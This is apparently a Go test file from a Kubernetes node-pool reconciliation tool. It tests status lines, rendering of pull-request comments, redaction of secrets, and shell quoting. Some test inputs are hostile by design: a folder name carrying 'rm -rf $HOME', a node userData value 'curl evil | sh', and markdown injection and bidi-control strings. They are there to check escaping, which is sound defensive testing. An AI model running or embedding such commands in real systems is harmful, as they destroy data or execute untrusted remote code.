package review

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/util/intstr"

	"github.com/plumbline-dev/plumbline/provision/iam"
	"github.com/plumbline-dev/plumbline/provision/karpenter"
	"github.com/plumbline-dev/plumbline/reconcile/api/v1alpha1"
	"github.com/plumbline-dev/plumbline/reconcile/evaluate"
	"github.com/plumbline-dev/plumbline/reconcile/fault"
	"github.com/plumbline-dev/plumbline/reconcile/plan"
	"github.com/plumbline-dev/plumbline/reconcile/report"
	"github.com/plumbline-dev/plumbline/reconcile/upgrade"
	"github.com/plumbline-dev/plumbline/redact"
	"github.com/plumbline-dev/plumbline/render"
)

func leavingPool(name string, nodes int, held bool) plan.Candidate {
	c := plan.Candidate{Ref: render.Ref{Kind: render.NodePool, Name: name}, Nodes: nodes, Held: held}
	if held {
		c.Reason, c.Message = "MaxRemovedPools", "spec.guard.maxRemovedPools is 1"
	}
	return c
}

func move(name string, nodes int, to ...string) plan.Candidate {
	c := leavingPool(name, nodes, false)
	c.MovesTo = to
	return c
}

// TestOneLine covers the text of the status, and its state.
func TestOneLine(t *testing.T) {
	change := plan.Change{Ref: render.Ref{Kind: render.NodePool, Name: "a"}, Action: plan.Update, Effect: plan.EffectNone}
	refused := plan.Change{Ref: change.Ref, Action: plan.Refuse, Message: "x", Err: errors.New("NodePool/a: weight is not valid")}
	frozen := plan.Frozen{Message: "no node is removed or replaced before ten; in an emergency set the annotation"}
	replaces := plan.Change{Ref: change.Ref, Action: plan.Wait, Effect: plan.EffectReplace, Nodes: 10, Message: frozen.Message}
	cases := map[string]struct {
		in    Preview
		state report.State
		line  string
	}{
		"nothing":             {Preview{Plan: &plan.Plan{}}, report.Success, "no change"},
		"objects":             {Preview{Plan: &plan.Plan{Changes: []plan.Change{change, change}}}, report.Success, "2 objects change, no node is touched; no hold"},
		"no instance type":    {Preview{Plan: &plan.Plan{Changes: []plan.Change{change}}, Unlaunchable: []string{"a", "b"}}, report.Success, "no instance type meets a, b: no node is launched or replaced there; no hold"},
		"a removal":           {Preview{Plan: &plan.Plan{Removals: []plan.Candidate{leavingPool("b", 3, false)}}}, report.Success, "drains 3 of 3 nodes of b; no hold"},
		"a move":              {Preview{Plan: &plan.Plan{Removals: []plan.Candidate{move("b", 12, "b2")}}}, report.Success, "moves 12 of 12 nodes of b to b2; no hold"},
		"a split":             {Preview{Plan: &plan.Plan{Removals: []plan.Candidate{move("b", 1, "b2", "b3")}}}, report.Success, "moves 1 of 1 nodes of b to b2, b3; no hold"},
		"two moves":           {Preview{Plan: &plan.Plan{Removals: []plan.Candidate{move("b", 3, "b2"), move("c", 1, "b2")}}}, report.Success, "moves 4 nodes of 2 pools; no hold"},
		"one of two moves":    {Preview{Plan: &plan.Plan{Removals: []plan.Candidate{move("b", 3, "b2"), leavingPool("c", 1, false)}}}, report.Success, "drains 4 nodes of 2 pools; no hold"},
		"held removals":       {Preview{Plan: &plan.Plan{Removals: []plan.Candidate{leavingPool("b", 3, true), leavingPool("c", 1, true)}}}, report.Failure, "held: removal of NodePool/b (3 nodes) and 1 more"},
		"a refused object":    {Preview{Plan: &plan.Plan{Changes: []plan.Change{refused}, Removals: []plan.Candidate{leavingPool("b", 3, true)}}}, report.Failure, "refused: NodePool/a: weight is not valid"},
		"refused as whole":    {Preview{Stopped: errors.New("plumbline.yaml is missing")}, report.Failure, "refused: plumbline.yaml is missing"},
		"waits":               {Preview{Stopped: fault.Waits(errors.New("waiting for the schema: crd x"))}, report.Pending, "waits: the schema: crd x"},
		"a freeze":            {Preview{Plan: &plan.Plan{Frozen: frozen, Changes: []plan.Change{change, replaces}}}, report.Success, "waits: NodePool/a (10 nodes): no node is removed or replaced before ten"},
		"it keeps a removal":  {Preview{Plan: &plan.Plan{Frozen: frozen, Removals: []plan.Candidate{leavingPool("b", 3, false), leavingPool("c", 1, false)}}}, report.Success, "waits: removal of NodePool/b (3 nodes): no node is removed or replaced before ten; and 1 more"},
		"main has it already": {Preview{Plan: &plan.Plan{Frozen: frozen, Removals: []plan.Candidate{recorded(leavingPool("b", 3, false))}}}, report.Success, "1 object changes, no node is touched; no hold"},
		"and the charts":      {Preview{Plan: &plan.Plan{Frozen: frozen}, ChartsChange: "Karpenter 1.8.6 is upgraded to 1.9.0: nodes drift; this waits: " + frozen.Message}, report.Success, "waits: Karpenter 1.8.6 is upgraded to 1.9.0: no node is removed or replaced before ten"},
		"and touches nothing": {Preview{Plan: &plan.Plan{Frozen: frozen, Changes: []plan.Change{change}}}, report.Success, "1 object changes, no node is touched; no hold"},
		"a class of another":  {Preview{Plan: &plan.Plan{Changes: []plan.Change{{Ref: change.Ref, Action: plan.Wait, Message: "NodePool/a waits for EC2NodeClass/x of NodeSync/y"}}}}, report.Success, "waits: NodePool/a: waits for EC2NodeClass/x of NodeSync/y"},
		"waits, beside others": {
			Preview{
				Plan:         &plan.Plan{Changes: []plan.Change{{Ref: change.Ref, Action: plan.Wait, Message: "NodePool/a waits for EC2NodeClass/x"}}, Removals: []plan.Candidate{leavingPool("b", 3, false)}},
				ChartsChange: "Karpenter 1.8.6 is upgraded to 1.9.0: chart karpenter",
			},
			report.Success, "waits: NodePool/a: waits for EC2NodeClass/x; Karpenter 1.8.6 is upgraded to 1.9.0 (nodes: plumbline plan); drains 3 of 3 nodes of b",
		},
		"approved, beside others": {
			Preview{
				Plan: &plan.Plan{
					Changes:    []plan.Change{{Ref: change.Ref, Action: plan.Wait, Message: "NodePool/a waits for EC2NodeClass/x"}},
					Removals:   []plan.Candidate{leavingPool("b", 3, true), leavingPool("c", 2, false)},
					Approvable: &plan.Approvable{Drained: 3, Of: 9, Pools: 1},
				},
				ApprovedInGit: true,
			},
			report.Success, "approved in plumbline.yaml: drains 3 of 9 nodes in 1 pool; waits: NodePool/a: waits for EC2NodeClass/x; drains 2 of 2 nodes of c",
		},
		"waits, and is held": {Preview{Plan: &plan.Plan{Frozen: frozen, Changes: []plan.Change{replaces}, Removals: []plan.Candidate{leavingPool("b", 3, true)}}}, report.Failure, "held: removal of NodePool/b (3 nodes)"},
		"charts are unknown": {Preview{Plan: &plan.Plan{Changes: []plan.Change{change}}, ChartsUnknown: true}, report.Success, "1 object changes, no node is touched; no hold; what becomes of the charts is not known here"},
		"and it upgrades":    {Preview{Plan: &plan.Plan{}, ChartsUnknown: true, VersionChanges: "1.8.6 to 1.14.1"}, report.Failure, "Karpenter 1.8.6 to 1.14.1: what its charts do is not known here"},
		"charts refused":     {Preview{Plan: &plan.Plan{}, ChartsRefused: errors.New("1.2 is too old")}, report.Failure, "refused: 1.2 is too old"},
		"charts that change": {
			Preview{Plan: &plan.Plan{}, ChartsChange: "Karpenter 1.8.6 is upgraded to 1.9.0: chart karpenter-crd, then chart karpenter"},
			report.Success, "Karpenter 1.8.6 is upgraded to 1.9.0 (nodes: plumbline plan); no hold",
		},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			r := Of(Input{Preview: &c.in, Now: time.Now()})
			if diff := cmp.Diff([]string{string(c.state), c.line}, []string{string(r.State), r.Line}); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
	if r := Of(Input{Preview: &Preview{}, Branch: "main", Behind: true, Lacks: "0123456"}); r.State != report.Failure || r.Line != "lacks 0123456 of main, which is not in force yet: update the branch; as it is: no change" {
		t.Errorf("%s %q", r.State, r.Line)
	}
	if r := Of(Input{Preview: &Preview{}, Branch: "main", Behind: true}); r.State != report.Success || r.Line != "behind main: no change" {
		t.Error(r.Line)
	}
}

// TestACommitCannotWriteTheComment: names and messages from a commit are formatted as code, whatever they contain, and
// values of Secrets are hidden.
func TestACommitCannotWriteTheComment(t *testing.T) {
	evil := "a` @octocat <img src=x> [l](http://x) | cell\n```\n# h \u202e"
	held := leavingPool(evil, 3, true)
	held.Message = evil
	in := Preview{Plan: &plan.Plan{Removals: []plan.Candidate{held}, Warnings: []string{evil}}, Warnings: []string{"the registry has s3cret-t0ken"}}
	text := Of(Input{Preview: &in, Hide: redact.Credentials("s3cret-t0ken")}).Markdown(Title{NodeSync: "prod", Cluster: evil, Commit: "c0ffee"}, report.MarkupOf("github"))
	if strings.Contains(text, "s3cret-t0ken") || strings.Contains(text, "\u202e") {
		t.Errorf("the comment has what nobody is to see:\n%s", text)
	}
	for _, line := range strings.Split(text, "\n") {
		outside := ""
		for i, part := range strings.Split(line, "`") {
			if i%2 == 0 {
				outside += part
			}
		}
		if strings.ContainsAny(outside, "@<[#") || strings.Count(line, "`")%2 != 0 {
			t.Errorf("outside of code: %q", line)
		}
		if strings.HasPrefix(line, "| `") && strings.Count(strings.ReplaceAll(line, `\|`, ""), "|") != 6 {
			t.Errorf("a row of other than 5 cells: %q", line)
		}
	}
	if got := Fence("diff", "a\n````\n# h\n"); got != "`````diff\na\n````\n# h\n`````\n" {
		t.Errorf("a fence: %q", got)
	}
}

// TestTheTimeOfARemoval: the table says how many rounds it takes according to spec.removal.
func TestTheTimeOfARemoval(t *testing.T) {
	most := intstr.FromInt32(3)
	in := Preview{Plan: &plan.Plan{Removals: []plan.Candidate{leavingPool("b", 7, false)}}, Removal: v1alpha1.RemovalPolicy{MaxUnavailable: &most}}
	got := Of(Input{Preview: &in}).Markdown(Title{NodeSync: "prod", Commit: "c0ffee"}, report.MarkupOf("github"))
	if !strings.Contains(got, "| 7 of 7 | Drain | `removed from Git` | `3 rounds at least` |") {
		t.Error(got)
	}
}

// TestTheFolderOfAWhatIf: the command works in any checkout, and the folder is quoted if necessary.
func TestTheFolderOfAWhatIf(t *testing.T) {
	for path, folder := range map[string]string{
		"": "./", "./": "./", ".": "./", "clusters/eu": "./clusters/eu", "./clusters/eu/": "./clusters/eu",
		"a b; rm -rf $HOME": "'./a b; rm -rf $HOME'", "o'neil": `'./o'\''neil'`, "-n": "./-n", "é": "'./é'",
	} {
		if got := folderOf(path); got != folder {
			t.Errorf("of %q: %s, want %s", path, got, folder)
		}
	}
	quiet := Of(Input{Preview: &Preview{Plan: &plan.Plan{}}}).Markdown(Title{NodeSync: "prod", Commit: "c0ffee"}, report.MarkupOf("github"))
	if strings.Contains(quiet, "--what-if") {
		t.Errorf("a what-if of nothing:\n%s", quiet)
	}
}

// TestACommentHasThePermissions that an upgrade adds, and the statement to add.
func TestACommentHasThePermissions(t *testing.T) {
	add := iam.Statement{Sid: "ReadEC2", Effect: iam.Allow, Action: iam.Values{"ec2:DescribeInstanceStatus"}, Resource: iam.Values{"*"}}
	rights := &upgrade.Rights{
		From: "1.11.0", To: "1.12.0", Role: "arn:aws:iam::111122223333:role/k",
		Needs:    []karpenter.Permission{{Action: "ec2:DescribeInstanceStatus", Since: "1.12.0"}},
		Findings: []iam.Finding{{Kind: iam.Missing, Actions: add.Action, Add: &add}},
	}
	text := Of(Input{Preview: &Preview{Plan: &plan.Plan{}, Rights: rights}}).Markdown(Title{NodeSync: "prod", Commit: "c0ffee"}, report.MarkupOf("github"))
	for _, want := range []string{
		"Karpenter 1.12.0 needs ec2:DescribeInstanceStatus: missing in role arn:aws:iam::111122223333:role/k", `"Action":"ec2:DescribeInstanceStatus"`,
	} {
		if !strings.Contains(text, want) {
			t.Errorf("no %q in\n%s", want, text)
		}
	}
}

// TestACommentIsBounded: the comment for a commit that renames everything fits the hosts' limits.
func TestACommentIsBounded(t *testing.T) {
	in := Preview{Plan: &plan.Plan{}}
	for i := range 5000 {
		in.Plan.Removals = append(in.Plan.Removals, leavingPool(fmt.Sprintf("pool-%d-%s", i, strings.Repeat("é", 400)), i, i%2 == 0))
		in.Plan.Warnings = append(in.Plan.Warnings, strings.Repeat("é", 400))
	}
	r := Of(Input{Preview: &in})
	for _, provider := range []string{"github", "bitbucket", "bitbucketserver", "azuredevops"} {
		m := report.MarkupOf(provider)
		text := r.Markdown(Title{NodeSync: "prod", Cluster: "eu", Commit: "c0ffee"}, m)
		if len(text) > m.Most+100 || !utf8.ValidString(text) || !strings.Contains(text, "4949 more") && m.HTML {
			t.Errorf("%s: a comment of %d bytes, valid %v: %s", provider, len(text), utf8.ValidString(text), text[len(text)-300:])
		}
		if cut := bounded(strings.Repeat("é\n", 40_000), m.Most); len(cut) > m.Most+100 || !utf8.ValidString(cut) || !strings.HasSuffix(cut, "`plumbline plan`\n") {
			t.Errorf("%s: cut to %d bytes", provider, len(cut))
		}
	}
	if n := utf8.RuneCountInString(r.Line); n > report.MaxDescription {
		t.Errorf("a line of %d characters", n)
	}
}

// recorded is a removal that already waits on the branch.
func recorded(c plan.Candidate) plan.Candidate {
	c.Recorded = true
	return c
}

// TestACommentHasAllThatIsWrong: a status contains the first words, and a comment everything.
func TestACommentHasAllThatIsWrong(t *testing.T) {
	long := strings.Repeat("a folder/", 20) + "general.yaml: a field that nobody knows"
	r := Refused(errors.Join(errors.New("nodes/batch.yaml: no kind"), errors.New(long), errors.New("the token hush was refused")), redact.Values("hush"))
	text := r.Markdown(Title{Commit: "a"}, report.Markup{Most: 60_000})
	for _, want := range []string{"- `nodes/batch.yaml: no kind`\n", "- `" + long + "`\n", "- `the token "} {
		if !strings.Contains(text, want) {
			t.Errorf("no %q in\n%s", want, text)
		}
	}
	if strings.Contains(text, "hush") {
		t.Errorf("a value of a Secret is not redacted:\n%s", text)
	}
}

// TestADiffHasWhatIsNotSeen shows that invisible characters are escaped.
func TestADiffHasWhatIsNotSeen(t *testing.T) {
	for name, hidden := range map[string]string{"control": "\u009b", "delete": "\u007f", "escape": "\x1b[2J", "direction": "\u202e", "surrogates": "\U000e0001", "line": "\u2028"} {
		t.Run(name, func(t *testing.T) {
			after := &unstructured.Unstructured{Object: map[string]any{
				"kind": "EC2NodeClass", "metadata": map[string]any{"name": "a", "annotations": map[string]any{"x": "a" + hidden + "b"}},
				"spec": map[string]any{"userData": "curl evil | sh"},
			}}
			text := Diff("EC2NodeClass/a", "", nil, after)
			if !strings.Contains(text, "+  userData: curl evil | sh\n") || strings.Contains(text, hidden) || !strings.Contains(text, "x: ") {
				t.Errorf("%q", text)
			}
		})
	}
}

// TestApprovalsOfAnotherPlan: digests in plumbline.yaml that approve neither this plan nor an earlier one are named,
// because after the merge they approve another commit.
func TestApprovalsOfAnotherPlan(t *testing.T) {
	digest := func(c string) string { return "sha256:" + strings.Repeat(c, 64) }
	sync := &v1alpha1.NodeSync{}
	sync.Spec.Guard.ApproveFrom = v1alpha1.ApproveFromGit
	sync.Status.UsedGitApprovals = []string{digest("a")}
	for name, c := range map[string]struct {
		of   *plan.Approvable
		from v1alpha1.ApproveFrom
		want int
	}{
		"nothing is held":          {from: v1alpha1.ApproveFromGit, want: 2},
		"this plan is one of them": {of: &plan.Approvable{Digest: digest("b")}, from: v1alpha1.ApproveFromGit, want: 1},
		"approved in the cluster":  {from: v1alpha1.ApproveFromCluster},
	} {
		t.Run(name, func(t *testing.T) {
			sync.Spec.Guard.ApproveFrom = c.from
			p := &preview{Step: &Step{Sync: sync, Snapshot: &render.Snapshot{}}, out: &Preview{
				Plan:    &plan.Plan{Approvable: c.of},
				Desired: evaluate.Desired{Karpenter: &render.Karpenter{Approve: []string{render.ShownDigest(digest("a")), render.ShownDigest(digest("b")), digest("c")}}},
			}}
			p.weighApprovals()
			if got := p.out.Warnings; len(got) != c.want || c.want > 0 && !strings.Contains(got[len(got)-1], "plumbline.yaml approves "+digest("c")+", which is not the digest of this plan") {
				t.Errorf("warnings %q", got)
			}
		})
	}
}
